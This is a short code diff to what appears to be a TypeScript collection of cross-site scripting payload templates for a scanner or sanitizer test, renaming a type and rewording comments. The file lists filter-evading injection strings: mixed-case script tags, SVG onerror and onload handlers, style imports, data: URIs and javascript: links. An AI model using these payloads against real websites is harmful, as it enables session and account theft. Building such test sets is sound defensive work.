@@ -1,7 +1,7 @@
-import type { ByClass } from './payloads.ts'
+import type { Payloads } from './payloads.ts'
 
-/** Elements and attributes that run something by themselves. */
-export const ELEMENTS: ByClass = {
+/** Elements and attributes that run scripts. */
+export const ELEMENTS: Payloads = {
   'script elements': [
     '<script>%run%</script>',
     '<ScRiPt >%run%</ScRiPt >',
@@ -37,7 +37,7 @@ export const ELEMENTS: ByClass = {
     '<svg><style><img src=x onerror=%run%></style></svg>',
     '<svg><style>@import "%url%";</style></svg>',
     '<svg><feImage href="%url%" /><filter id=f><feImage href="%url%" /></filter><rect width=9 height=9 filter=url(#f) /></svg>',
-    // Scripts of an image never run, and `data:` is no longer used for `use`.
+    // Scripts in images never run, and browsers no longer support `data:` in `use`.
     "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='%run%'/>\">",
     '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><image href=1 onerror=canary(1) /></svg>#x" /></svg>',
     '<svg><a xlink:href="javascript:%run%"><text x=9 y=9>x</text></a></svg>',
